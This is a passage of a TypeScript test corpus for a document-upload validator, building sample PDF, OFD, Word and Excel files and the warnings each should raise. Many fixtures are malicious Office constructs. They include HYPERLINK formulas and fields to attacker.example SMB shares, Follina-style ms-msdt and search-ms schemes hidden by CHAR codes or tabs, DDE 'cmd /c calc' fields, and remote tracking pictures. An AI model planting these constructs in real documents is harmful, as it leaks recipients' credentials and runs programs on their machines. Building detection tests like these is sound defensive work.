          Buffer.from(
            '"><ofd:Fonts><ofd:Font ID="2"><ofd:FontFile>../Res/simsun.ttf</ofd:FontFile></ofd:Font></ofd:Fonts><ofd:MultiMedias><ofd:MultiMedia ID="9" Type="Image"><ofd:MediaFile>1\u20442.png</ofd:MediaFile></ofd:MultiMedia></ofd:MultiMedias></ofd:Res>',
          ),
        ]),
      ),
  },
  {
    id: 'pdf-links-folded-into-themselves',
    declared: 'pdf',
    // An Arabic name after a right-to-left mark, a Chinese one with a fraction slash, a mail address.
    bytes: async () =>
      buildPdf(
        linkAnnotations(
          `<< /S /GoToR /F ${utf16Hex('\u200fملف.pdf')} /D [0 /Fit] >>`,
          `<< /S /GoToR /F ${utf16Hex('附件/1\u20442 年报.pdf')} /D [0 /Fit] >>`,
          `<< /S /URI /URI ${utf16Hex('mailto:张三@miit.gov.cn')} >>`,
        ),
      ),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'docx-page-field-chinese-prefix',
    declared: 'docx',
    // Round 13: Word's markup under a Chinese prefix, a PAGE field in it: read, and harmless.
    bytes: () =>
      office('docx', {
        'word/document.xml': `<?xml version="1.0" encoding="UTF-8"?>\n<文:document xmlns:文="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><文:body><文:p><文:r><文:t>第</文:t></文:r><文:r><文:fldChar 文:fldCharType="begin"/></文:r><文:r><文:instrText> PAGE </文:instrText></文:r><文:r><文:fldChar 文:fldCharType="end"/></文:r><文:r><文:t>页</文:t></文:r></文:p></文:body></文:document>`,
      }),
  },
  {
    id: 'xlsx-sum-formula-chinese-prefix',
    declared: 'xlsx',
    bytes: () =>
      office('xlsx', {
        'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8"?>\n<表:worksheet xmlns:表="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><表:sheetData><表:row r="1"><表:c r="A1"><表:f>SUM(B1:B9)&amp;"|"</表:f><表:v>0</表:v></表:c></表:row></表:sheetData></表:worksheet>`,
      }),
  },
  {
    id: 'docx-strict',
    declared: 'docx',
    // Round 14: a document saved as Strict Open XML, its namespaces and relationship types Strict's.
    bytes: () => buildZip(docxEntries().map((e) => ({ ...e, data: asStrict(e.data) }))),
  },
  {
    id: 'xlsx-strict-with-sum',
    declared: 'xlsx',
    bytes: () =>
      buildZip(
        xlsxEntries().map((e) =>
          e.name === 'xl/worksheets/sheet1.xml'
            ? {
                ...e,
                data: asStrict(
                  `<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>SUM(B1:B9)</f><v>0</v></c></row></sheetData></worksheet>`,
                ),
              }
            : { ...e, data: asStrict(e.data) },
        ),
      ),
  },
  {
    id: 'docx-chart-series-formula',
    declared: 'docx',
    // Round 14: a Word chart whose series formulas name its own data's cells, as Word writes them.
    bytes: () => documentWithChart("'营业 收入'!$B$2:$B$5"),
  },
  {
    id: 'xlsx-auto-open-name-without-macro-sheet',
    declared: 'xlsx',
    // Round 14: an Auto_Open name left pointing at a worksheet's cell. Excel runs Auto_Open only
    // as a macro, on a macro sheet or in VBA, each refused whatever its name; a worksheet's cell
    // runs nothing, and a name whose own formula calls EXEC, CALL or REGISTER is refused as DDE.
    bytes: () =>
      office('xlsx', {
        'xl/workbook.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL}"><sheets><sheet name="汇总表" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">汇总表!$A$1</definedName><definedName name="Auto_Activate">汇总表!$B$1</definedName></definedNames></workbook>`,
      }),
  },
  {
    id: 'docx-svg-icon',
    declared: 'docx',
    // Round 14: an icon from Office's gallery (SVG, its PNG copy beside it): gradients and shapes
    // referred to inside the picture, a bitmap written in as a data: URL.
    bytes: () =>
      documentLinking(
        `<w:p>${inlinePicture(svgPicture('r:embed="rId7"'))}</w:p>`,
        [rel('rId7', 'image', 'media/image2.svg'), rel('rId8', 'image', 'media/image1.png')],
        { add: [{ name: 'word/media/image2.svg', data: SVG_ICON }] },
      ),
  },
  {
    id: 'docx-svg-graphviz-doctype',
    declared: 'docx',
    // Round 17: an SVG as Graphviz writes it (`dot -Tsvg`), with the SVG 1.1 DTD's DOCTYPE.
    bytes: () =>
      documentLinking(
        `<w:p>${inlinePicture(svgPicture('r:embed="rId7"'))}</w:p>`,
        [rel('rId7', 'image', 'media/image2.svg'), rel('rId8', 'image', 'media/image1.png')],
        {
          add: [
            {
              name: 'word/media/image2.svg',
              data: `<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<!-- Generated by graphviz -->\n${SVG_ICON}`,
            },
          ],
        },
      ),
  },
  {
    id: 'xlsx-svg-icon',
    declared: 'xlsx',
    bytes: () =>
      workbookPicture(
        svgPicture('r:embed="rId2"').replace(/rId8/g, 'rId1'),
        [rel('rId1', 'image', '../media/image1.png'), rel('rId2', 'image', '../media/image2.svg')],
        undefined,
        [{ name: 'xl/media/image2.svg', data: SVG_ICON }],
      ),
  },
  // Round 15: parts not named as XML, sniffed for a web page's first bytes and not one: a header
  // Word reads under another name, a printer's settings (a DEVMODE, its device name in UTF-16),
  // an OFD text note starting with a bracket that is no HTML tag.
  {
    id: 'docx-header-named-bin',
    declared: 'docx',
    bytes: () =>
      office('docx', {}, [
        {
          name: 'word/header9.bin',
          data: '\r\n<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p/></w:hdr>',
        },
      ]),
  },
  {
    id: 'xlsx-printer-settings',
    declared: 'xlsx',
    bytes: () =>
      office('xlsx', {}, [
        {
          name: 'xl/printerSettings/printerSettings1.bin',
          data: Buffer.concat([Buffer.from('Microsoft Print to PDF', 'utf16le'), Buffer.alloc(200, 0)]),
        },
      ]),
  },
  {
    id: 'ofd-text-note-with-brackets',
    declared: 'ofd',
    bytes: () => ofdWith('', [{ name: 'Doc_0/Res/备注.txt', data: '<备注> 第一页印章为复印件\r\n<b>' }]),
  }, // Round 16: what SheetJS writes into every workbook's content types, Defaults typing `.bin` as a
  // macro-enabled binary workbook and `.data` as a data model, with no part of either extension.
  {
    id: 'xlsx-content-type-defaults-without-parts',
    declared: 'xlsx',
    bytes: () => office('xlsx', { '[Content_Types].xml': contentTypes('xlsx', SHEETJS_DEFAULTS) }),
  }, // Round 17: an e-invoice's structured data, attached as the national electronic invoice attaches
  // it (relative to its list, or from the package root as an XBRL instance): VALID, warned of.
  {
    id: 'ofd-attached-invoice-data',
    declared: 'ofd',
    bytes: () => ofdAttachedData('original_invoice.xml', 'Doc_0/Attachs/original_invoice.xml', INVOICE_DATA),
    warning: 'OFD_ATTACHED_DATA',
  },
  {
    id: 'ofd-attached-xbrl-data-from-root',
    declared: 'ofd',
    bytes: () =>
      ofdAttachedData(
        '/Doc_0/Attachs/inv_ord_issuer_1.xml',
        'Doc_0/Attachs/inv_ord_issuer_1.xml',
        INVOICE_DATA,
        'xbrl',
      ),
    warning: 'OFD_ATTACHED_DATA',
  },
  {
    id: 'ofd-page-text-about-xinclude',
    declared: 'ofd',
    // The words of XInclude and xml:base as a page's text: no namespace bound, no attribute.
    bytes: () =>
      ofdReplacing(
        'Doc_0/Pages/Page_0/Content.xml',
        '<?xml version="1.0" encoding="UTF-8"?><ofd:Page xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Content><ofd:Layer ID="3"><ofd:TextObject ID="4" Boundary="0 0 100 10" Font="2" Size="5"><ofd:TextCode X="0" Y="5">&lt;xi:include href="a.xml"/&gt; xml:base="Res/" http://www.w3.org/2001/XInclude</ofd:TextCode></ofd:TextObject></ofd:Layer></ofd:Content></ofd:Page>',
      ),
  },
  // Round 17: a worksheet custom property's value, Hyperion Smart View's settings in UTF-16, as
  // Excel stores it (xl/customProperty1.bin, typed and reached as a custom property).
  {
    id: 'xlsx-smart-view-custom-property',
    declared: 'xlsx',
    bytes: () => workbookWithProperty(),
  },
  // Round 17: `.xml` typed by a Default as the main document, every other XML part by an Override,
  // as .NET's System.IO.Packaging writes it.
  { id: 'docx-xml-default-main-type', declared: 'docx', bytes: () => typedByXmlDefault('docx') },
  { id: 'xlsx-xml-default-main-type', declared: 'xlsx', bytes: () => typedByXmlDefault('xlsx', { typesLast: true }) },
  // Round 17: locked against printing and copying by an owner password, the user password empty.
  {
    id: 'pdf-encrypted-rc4-object-stream',
    declared: 'pdf',
    bytes: async () => encryptedPdf(pageObjects(), { cipher: 'rc4-128', packed: [1, 2, 3, 5] }),
  },
  {
    id: 'pdf-encrypted-aes256-object-stream',
    declared: 'pdf',
    bytes: async () => encryptedPdf(pageObjects(), { cipher: 'aes-256', packed: [1, 2, 3, 5] }),
  },
  {
    id: 'pdf-encrypted-aes-web-link',
    declared: 'pdf',
    bytes: async () =>
      encryptedPdf(linkAnnotations('<< /S /URI /URI (https://www.miit.gov.cn/) >>'), { cipher: 'aes-128' }),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'pdf-encrypted-identity-streams',
    declared: 'pdf',
    bytes: async () => encryptedPdf(pageObjects(), { cipher: 'aes-128', packed: [1, 2], stmF: 'Identity' }),
  },
  {
    // Round 18: an Office instruction and a page's tag as the invoice's text, its Name with the
    // extension of XML data, declared XBRL in capitals: data.
    id: 'ofd-attached-data-naming-office-in-its-text',
    declared: 'ofd',
    bytes: () =>
      ofdAttachmentList(
        ofdAttachmentEntry('XBRL', 'original_invoice.xml').replace('"original_invoice"', '"original_invoice.xml"'),
        [
          {
            name: 'Doc_0/Attachs/original_invoice.xml',
            data: INVOICE_DATA.replace('价税合计', '&lt;?mso-application progid="Excel.Sheet"?&gt; &lt;script&gt;'),
          },
        ],
      ),
    warning: 'OFD_ATTACHED_DATA',
  },
];

/** Transitional namespaces and relationship types as ISO 29500 Strict writes them. */
function asStrict(data: string | Buffer): string | Buffer {
  if (typeof data !== 'string') return data;
  return data
    .replaceAll(
      'http://schemas.openxmlformats.org/wordprocessingml/2006/main',
      'http://purl.oclc.org/ooxml/wordprocessingml/main',
    )
    .replaceAll(
      'http://schemas.openxmlformats.org/spreadsheetml/2006/main',
      'http://purl.oclc.org/ooxml/spreadsheetml/main',
    )
    .replaceAll(
      'http://schemas.openxmlformats.org/officeDocument/2006/relationships',
      'http://purl.oclc.org/ooxml/officeDocument/relationships',
    );
}

/** An icon as Office's gallery inserts one: shapes, a gradient used by reference, no script, nothing outside. */
const SVG_ICON =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="96" height="96" overflow="hidden">' +
  '<defs><linearGradient id="g"><stop offset="0" stop-color="#0078D4"/><stop offset="1" stop-color="#50E6FF"/></linearGradient>' +
  '<clipPath id="c"><rect x="0" y="0" width="96" height="96"/></clipPath></defs>' +
  '<g clip-path="url(#c)"><path d="M48 8C26 8 8 26 8 48s18 40 40 40 40-18 40-40S70 8 48 8Z" fill="url(#g)"/>' +
  '<use xlink:href="#c"/><image width="1" height="1" xlink:href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="/></g></svg>';

/**
 * Link targets computed rather than written: HYPERLINK formulas that build theirs from pieces or
 * pick a share's address the workbook holds, and HYPERLINK fields whose target a nested field
 * computes.
 */
function computedLinkOfficeItems(): CorpusItem[] {
  const COMPUTED = 'OOXML link whose target is computed';
  const q = (text: string) => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
  const picks = '<c r="A1" t="s"><v>0</v></c><c r="B1" t="str"><f>HYPERLINK(A1,&quot;附件&quot;)</f><v>附件</v></c>';
  return [
    item(
      'xlsx-hyperlink-picks-share-string',
      COMPUTED,
      () => workbookWithStrings(picks, ['\\\\attacker.example\\share\\x.xlsx']),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-picks-share-string-read-first',
      COMPUTED,
      () => workbookWithStrings(picks, ['\\\\attacker.example\\share\\x.xlsx'], { stringsFirst: true }),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-picks-rich-text-runs',
      COMPUTED,
      () => workbookWithStrings(picks, [['\\', '\\attacker.example\\share\\x.xlsx']]),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-picks-program-scheme',
      COMPUTED,
      () => workbookWithStrings(picks, ['ms-msdt:-id PCWDiagnostic /skip force']),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-defined-name',
      COMPUTED,
      () =>
        workbookWithStrings('<c r="B1" t="str"><f>HYPERLINK(附件)</f><v>附件</v></c>', [], {
          names: `<definedName name="附件">${q('"\\\\attacker.example\\share\\x.xlsx"')}</definedName>`,
        }),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-picks-inline-string',
      COMPUTED,
      () =>
        workbookWithStrings(
          '<c r="A1" t="inlineStr"><is><t>file:///C:/Windows/System32/calc.exe</t></is></c><c r="B1" t="str"><f>HYPERLINK(A1)</f><v>x</v></c>',
          [],
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-joined-backslashes',
      COMPUTED,
      () => sheetWithFormula(q('HYPERLINK("\\"&"\\attacker.example\\share\\x.xlsx","附件")')),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-concat',
      COMPUTED,
      () => sheetWithFormula(q('HYPERLINK(_xlfn.CONCAT("fi","le:///C:/Windows/System32/calc.exe"))')),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-char-codes',
      COMPUTED,
      () => sheetWithFormula(q('HYPERLINK(CHAR(92)&CHAR(92)&"attacker.example\\share\\x")')),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-two-cells-joined',
      COMPUTED,
      () => workbookWithStrings('<c r="B1" t="str"><f>HYPERLINK(A1&amp;A2)</f><v>x</v></c>', ['\\', '\\attacker']),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-hyperlink-field-quote-target',
      COMPUTED,
      () => documentWith(nestedField(' HYPERLINK "', ' QUOTE 92 92 ', 'attacker.example\\\\share\\\\x.docx" ')),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-hyperlink-field-docproperty-target',
      COMPUTED,
      () => documentWith(nestedField(' HYPERLINK ', ' DOCPROPERTY 网址 ', ' \\o "附件" ')),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-hyperlink-field-target-after-long-tip',
      'OOXML link target after long switches',
      // A ScreenTip of 255 Chinese characters is 765 bytes as read: past what a field's target was looked for in.
      () =>
        documentWith(complexField(` HYPERLINK \\o "${'附件说明'.repeat(64)}" "\\\\\\\\attacker.example\\\\x.docx" `)),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-hyperlink-field-simple-nested',
      COMPUTED,
      () =>
        documentWith(
          '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK "fi</w:instrText></w:r>' +
            '<w:fldSimple w:instr=" QUOTE &quot;le:///C:/x.exe&quot; "/><w:r><w:instrText>" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
        ),
      'OOXML_EXTERNAL',
    ),
    // Round 9: a sheet's own strings and computed cells, read for the HYPERLINK that picks them.
    item(
      'xlsx-hyperlink-picks-formula-program-string',
      COMPUTED,
      // A formula that is a string alone, its quotes as Excel writes them (not escaped).
      () => workbookWithStrings(`${picks}<c r="C1" t="str"><f>"ms-msdt:-id PCWDiagnostic /skip force"</f></c>`, []),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-picks-inline-program-string',
      COMPUTED,
      () =>
        workbookWithStrings(
          `${picks}<c r="C1" t="inlineStr"><is><t>search-ms:query=申报&amp;crumb=location:attacker.example</t></is></c>`,
          [],
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-picks-cached-program-result',
      COMPUTED,
      () => workbookWithStrings(`${picks}<c r="C1" t="str"><f>C9</f><v>ms-msdt:-id PCWDiagnostic</v></c>`, []),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-picks-inline-rich-text-scheme',
      COMPUTED,
      // An inline string cut into runs: `search-ms:` then `query=…`, each harmless alone.
      () =>
        workbookWithStrings(
          `${picks}<c r="C1" t="inlineStr"><is><r><t>search-ms:</t></r><r><t>query=x</t></r></is></c>`,
          [],
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-picks-char-built-share',
      COMPUTED,
      // The cached value left out: Excel computes `\\attacker.example\share\x` as it opens.
      () =>
        workbookWithStrings(`${picks}<c r="C1"><f>${q('CHAR(92)&CHAR(92)&"attacker.example\\share\\x"')}</f></c>`, []),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-picks-char-built-scheme-name',
      COMPUTED,
      () =>
        workbookWithStrings('<c r="B1" t="str"><f>HYPERLINK(目标)</f><v>x</v></c>', [], {
          names: `<definedName name="目标">${q('"ms-msdt"&CHAR(58)&"-id PCWDiagnostic"')}</definedName>`,
        }),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-picks-char-built-share-read-first',
      COMPUTED,
      // A slash by its code, then a string that finishes a share: `//attacker.example/share`.
      () =>
        workbookWithStrings(`${picks}<c r="C1"><f>CHAR(47)&amp;A2</f></c>`, ['/attacker.example/share/x.xlsx'], {
          stringsFirst: true,
        }),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-picks-scheme-joined-to-cell',
      COMPUTED,
      () =>
        workbookWithStrings(`${picks}<c r="C1" t="str"><f>"search-ms:"&amp;A2</f></c>`, [
          'query=x&amp;crumb=location:\\\\attacker.example\\share',
        ]),
      'OOXML_EXTERNAL',
    ),
  ];
}

/**
 * A workbook's queries and data model, which refresh from outside sources: Power Query's
 * DataMashup (in UTF-16, as Excel writes it), a Power Pivot model, a pivot cache whose source is
 * named by a path into another workbook.
 */
function queryOfficeItems(): CorpusItem[] {
  const QUERIES = 'OOXML queries and data models';
  const mashup =
    '<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAAAEUDAABQSwMEFAACAAgA</DataMashup>';
  return [
    item(
      'xlsx-power-query-datamashup',
      QUERIES,
      () => office('xlsx', {}, [{ name: 'customXml/item1.xml', data: utf16(mashup) }]),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-power-pivot-model',
      QUERIES,
      () =>
        office(
          'xlsx',
          {
            '[Content_Types].xml': contentTypes(
              'xlsx',
              '<Override PartName="/xl/model/item.data" ContentType="application/vnd.openxmlformats-officedocument.model+data"/>',
            ),
          },
          [{ name: 'xl/model/item.data', data: randomBytes(512) }],
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-pivot-source-in-another-workbook',
      QUERIES,
      () =>
        office('xlsx', {}, [
          {
            name: 'xl/pivotCache/pivotCacheDefinition1.xml',
            data: `<?xml version="1.0" encoding="UTF-8"?><pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource name="'\\\\attacker.example\\share\\[b.xlsx]S'!A1:B9"/></cacheSource></pivotCacheDefinition>`,
          },
        ]),
      'OOXML_EXTERNAL',
    ),
  ];
}

/** A run holding an mc:AlternateContent whose Choice (Word 2010 on) and Fallback hold `choice` and `fallback`. */
function alternateFields(choice: string, fallback: string): string {
  const MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"';
  const box = (runs: string) => `<w:txbxContent><w:p>${runs}</w:p></w:txbxContent>`;
  return `<w:r><mc:AlternateContent ${MC}><mc:Choice Requires="wps"><w:drawing>${box(choice)}</w:drawing></mc:Choice><mc:Fallback><w:pict>${box(fallback)}</w:pict></mc:Fallback></mc:AlternateContent></w:r>`;
}

/**
 * Field characters in one branch of an mc:AlternateContent, which Word reads while skipping the
 * other: an `end` only Word 2007 sees ends a field early for this check, so the name a nested
 * field then computes (`INCLUDE` + `PICTURE`) would go unseen.
 */
function alternateContentOfficeItems(): CorpusItem[] {
  const SPLIT = 'OOXML field split by mc:AlternateContent';
  const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>';
  const rest = `${complexField(' QUOTE "INCLUDE" ')}<w:r><w:instrText>PICTURE "\\\\\\\\attacker.example\\\\x.png" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
  const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
  return [
    item(
      'docx-field-end-in-fallback',
      SPLIT,
      () => documentWith(begin + alternateFields('', end) + rest),
      'OOXML_UNREADABLE',
    ),
    item(
      'docx-field-instructions-in-choice',
      SPLIT,
      () =>
        documentWith(
          begin.replace(' IF ', ' ') +
            alternateFields('<w:r><w:instrText>DDE</w:instrText></w:r>', '<w:r><w:instrText>X</w:instrText></w:r>') +
            '<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" </w:instrText></w:r>' +
            end,
        ),
      'OOXML_UNREADABLE',
    ),
  ];
}

/**
 * Pictures linked rather than embedded, through a relationship typed as a hyperlink to a web
 * address (only a warning as a relationship): Word and Excel fetch them as the file opens, a
 * tracking picture; and web publishing, which writes the workbook as a page into a share or onto
 * a web server at every save.
 */
function linkedPictureOfficeItems(): CorpusItem[] {
  const EXTERNAL = 'OOXML external';
  return [
    item(
      'docx-linked-picture-hyperlink-typed',
      EXTERNAL,
      () => documentLinkedPicture('http://attacker.example/track.png'),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-linked-picture-hyperlink-typed',
      EXTERNAL,
      () => workbookPicture('r:link="rId1"', [rel('rId1', 'hyperlink', 'http://attacker.example/track.png', true)]),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-linked-picture-other-prefix',
      EXTERNAL,
      () =>
        workbookPicture(`xmlns:q="${REL}" q:link="rId1"`, [
          rel('rId1', 'hyperlink', 'https://attacker.example/t.png', true),
        ]),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-drawing-type-on-unread-name',
      'OOXML unreadable',
      () =>
        workbookPicture(
          'r:link="rId1"',
          [rel('rId1', 'hyperlink', 'http://attacker.example/t.png', true)],
          'xl/media/d.xml',
        ),
      'OOXML_UNREADABLE',
    ),
    item(
      'docx-vml-linked-picture-hyperlink-typed',
      EXTERNAL,
      () => documentVmlLinkedPicture('http://attacker.example/track.png'),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-web-publishing-to-share',
      EXTERNAL,
      () => webPublishing('sheet', '\\\\attacker.example\\share\\集群.htm'),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-web-publishing-workbook-to-web',
      EXTERNAL,
      () => webPublishing('workbook', 'http://attacker.example/dav/集群.htm'),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-hyperlink-file-scheme-split-by-line-break',
      EXTERNAL,
      () =>
        office('docx', mainRels('docx', rel('rId9', 'hyperlink', 'fi&#xA;le://attacker.example/share/x.docx', true))),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-hyperlink-program-scheme-split-by-tab',
      EXTERNAL,
      () => office('docx', mainRels('docx', rel('rId9', 'hyperlink', 'ms-ms&#x9;dt:-id PCWDiagnostic', true))),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-program-scheme-split-by-line-break',
      EXTERNAL,
      () => sheetWithHyperlink('search-&#xD;ms:query=x&amp;crumb=location:%5C%5Cattacker.example'),
      'OOXML_EXTERNAL',
    ),
  ];
}

/**
 * Office link targets read as a URL parser reads them wherever they are written (round 9): a tab
 * inside a HYPERLINK field's or formula's target, or inside the written lead of one whose target
 * is computed, no longer hides a program's scheme.
 */
function followedTargetOfficeItems(): CorpusItem[] {
  const EXTERNAL = 'OOXML external';
  return [
    item(
      'docx-hyperlink-field-program-scheme-split-by-tab',
      EXTERNAL,
      () => documentWith(complexField(' HYPERLINK "ms-ms&#9;dt:/id PCWDiagnostic /skip force" ')),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-formula-program-scheme-split-by-tab',
      EXTERNAL,
      () => sheetWithFormula('HYPERLINK(&quot;ms-ms&#9;dt:/id PCWDiagnostic&quot;,&quot;附件&quot;)'),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-formula-lead-ends-in-tab',
      EXTERNAL,
      // `ms-ms` and a tab, then what A2 holds (`dt:…`): the tab is dropped as the link is followed.
      () => sheetWithFormula('HYPERLINK(&quot;ms-ms&#9;&quot;&amp;A2,&quot;附件&quot;)'),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-formula-padded-with-tabs',
      EXTERNAL,
      // 200 tabs inside the scheme: the target is read as followed before it is cut to its window.
      () => sheetWithFormula(`HYPERLINK(&quot;ms-ms${'&#9;'.repeat(200)}dt:-id PCWDiagnostic&quot;,&quot;附件&quot;)`),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-picks-string-with-tab-in-scheme',
      EXTERNAL,
      // HYPERLINK(A1) and A1's shared string `ms-ms<tab>dt:…`: the string is read as the link follows it.
      () =>
        workbookWithStrings('<c r="A1" t="s"><v>0</v></c><c r="B1" t="str"><f>HYPERLINK(A1)</f><v>打开</v></c>', [
          'ms-ms\tdt:-id PCWDiagnostic',
        ]),
      'OOXML_EXTERNAL',
    ),
  ];
}

/**
 * External relationships typed as hyperlinks (to a web address: only a warning as a
 * relationship) that an element loads as the file opens rather than on a click: a picture, a VML
 * picture, a linked OLE object, a subdocument, an imported document, a chart, a chart's data
 * (round 9). Each fetches a tracking address; the relationships are read after the part that
 * names them, as Word writes them, or before it.
 */
function fetchedRelationshipOfficeItems(): CorpusItem[] {
  const EXTERNAL = 'OOXML external';
  const TRACK = 'http://attacker.example/track';
  return [
    ...Object.entries(FETCHING_BODIES).map(([what, body]) =>
      item(
        `docx-${what}-fetches-hyperlink-relationship`,
        EXTERNAL,
        () => documentFetching(body, TRACK),
        'OOXML_EXTERNAL',
      ),
    ),
    item(
      'docx-picture-fetches-hyperlink-relationship-read-first',
      EXTERNAL,
      () => documentFetching(FETCHING_BODIES.picture, TRACK, true),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-chart-data-fetches-hyperlink-relationship',
      EXTERNAL,
      () => chartDataFetching('docx', TRACK),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-chart-data-fetches-hyperlink-relationship',
      EXTERNAL,
      () => chartDataFetching('xlsx', TRACK),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-picture-fetches-hyperlink-relationship',
      EXTERNAL,
      () => workbookPicture('r:embed="rId1"', [rel('rId1', 'hyperlink', TRACK, true)]),
      'OOXML_EXTERNAL',
    ),
    // Round 11: a chart's drawn shapes, in Word and in Excel; a VML stroke's picture in Excel's VML.
    item(
      'docx-chart-shapes-fetch-hyperlink-relationship',
      EXTERNAL,
      () => chartShapesFetching('docx', TRACK),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-chart-shapes-fetch-hyperlink-relationship',
      EXTERNAL,
      () => chartShapesFetching('xlsx', TRACK),
      'OOXML_EXTERNAL',
    ),
  ];
}

/**
 * External relationships typed as hyperlinks to a web address that a Word page background or a
 * sheet's own elements load as the file opens (round 10): a VML fill's picture, a sheet's
 * background picture, OLE object, drawing and comments' VML drawing. Each was VALID with a warning.
 */
function sheetLoadingOfficeItems(): CorpusItem[] {
  const EXTERNAL = 'OOXML external';
  const TRACK = 'http://attacker.example/track';
  const tracking = [rel('rId1', 'hyperlink', TRACK, true)];
  return [
    item(
      'docx-page-background-fetches-hyperlink-relationship',
      EXTERNAL,
      () => documentFetching(`${PAGE_BACKGROUND}<w:p/>`, TRACK),
      'OOXML_EXTERNAL',
    ),
    ...Object.entries({
      background: '<picture r:id="rId1"/>',
      'ole-object': '<oleObjects><oleObject progId="Excel.Sheet.12" shapeId="1025" r:id="rId1"/></oleObjects>',
      drawing: '<drawing r:id="rId1"/>',
      'comments-drawing': '<legacyDrawing r:id="rId1"/>',
      'header-drawing': '<legacyDrawingHF r:id="rId1"/>',
    }).map(([what, inner]) =>
      item(
        `xlsx-sheet-${what}-fetches-hyperlink-relationship`,
        EXTERNAL,
        () => sheetLoading(inner, tracking),
        'OOXML_EXTERNAL',
      ),
    ),
  ];
}

/**
 * A drawing's shape whose `macro` (run on a click) or `textlink` (read as the sheet opens) names
 * a workbook by its path or a DDE server (round 10): Excel opens that workbook, handing a share's
 * host the reviewer's credentials, or starts the program. Each was VALID.
 */
function drawingShapeOfficeItems(): CorpusItem[] {
  return [
    item(
      'xlsx-shape-macro-in-workbook-on-share',
      'OOXML external',
      () => drawingShape(`macro="'\\\\attacker.example\\share\\[宏.xlsm]Sheet1'!Auto" textlink=""`),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-shape-macro-in-workbook-on-web',
      'OOXML external',
      () => drawingShape(`macro="'https://attacker.example/[宏.xlsm]Sheet1'!Auto"`),
      'OOXML_EXTERNAL',
    ),
    item('xlsx-shape-textlink-dde', 'DDE', () => drawingShape(`macro="" textlink="cmd|' /c calc'!A0"`), 'OOXML_DDE'),
    item(
      'xlsx-shape-textlink-on-share',
      'OOXML external',
